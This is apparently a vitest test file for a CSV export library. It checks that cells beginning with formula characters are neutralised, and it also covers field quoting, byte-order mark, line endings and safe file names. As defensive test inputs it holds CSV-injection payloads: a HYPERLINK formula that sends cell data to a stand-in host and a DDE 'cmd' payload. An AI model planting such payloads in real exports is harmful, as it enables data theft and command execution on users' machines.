import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { CSV_BOM, csvCellText, directoryCsv, exportFileName, toCsv } from '../../src';

describe('the one CSV writer', () => {
  it('neutralises cells a spreadsheet would run as a formula (OWASP CSV injection)', () => {
    for (const evil of ['=HYPERLINK("http://evil.example/?d="&A2,"Click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\t=1', '\r=1']) {
      expect(csvCellText(evil), evil).toBe(`'${evil}`);
    }
    // data that merely starts with a sign stays as it is
    expect(csvCellText('-12.5')).toBe('-12.5');
    expect(csvCellText('+3e-4')).toBe('+3e-4');
    expect(csvCellText(-7)).toBe('-7');
    expect(csvCellText('Tank = 3')).toBe('Tank = 3');
  });

  it('quotes every field, writes a UTF-8 byte-order mark, CRLF line ends and dates in ISO 8601 UTC', () => {
    const csv = toCsv(
      ['Name', 'When', 'Value'],
      [
        ['Señal "A", north', new Date(Date.UTC(2026, 10, 26, 6)), 1.5],
        [null, undefined, Number.NaN],
      ],
    );
    expect(csv.startsWith(CSV_BOM)).toBe(true);
    expect(csv.slice(1)).toBe('"Name","When","Value"\r\n"Señal ""A"", north","2026-11-26T06:00:00.000Z","1.5"\r\n"","",""\r\n');
    // it reads back as written
    expect(Papa.parse<string[]>(csv.slice(1).trim(), { newline: '\r\n' }).data[1]).toEqual([
      'Señal "A", north',
      '2026-11-26T06:00:00.000Z',
      '1.5',
    ]);
  });

  it('is what the Directory CSV goes through: a device renamed to a formula is text in everyone’s spreadsheet', () => {
    const csv = directoryCsv([
      {
        id: 1,
        userAssignedID: null,
        name: '=HYPERLINK("http://evil.example/?d="&A2,"Click")',
        path: '@/P',
        isActive: true,
        longitude: null,
        latitude: null,
        latestReading: -3.5,
        lastTimeMessageReceived: null,
        batteryLevel: null,
        displayUnits: null,
        defaultTag: null,
        companyID: 1,
        firmwareVersion: null,
        company: { name: '+Acme' },
        timeZone: 'UTC',
      },
    ]);
    const row = Papa.parse<string[]>(csv.slice(1).trim(), { newline: '\r\n' }).data[1]!;
    expect(row[2]).toBe(`'=HYPERLINK("http://evil.example/?d="&A2,"Click")`);
    expect(row[3]).toBe("'@/P");
    expect(row[7]).toBe('-3.5');
    expect(row[15]).toBe("'+Acme");
  });

  it('names files without characters file systems refuse', () => {
    expect(exportFileName('Tank 1/2: "north"', 'csv')).toBe('Tank 1_2_ _north_.csv');
  });
});
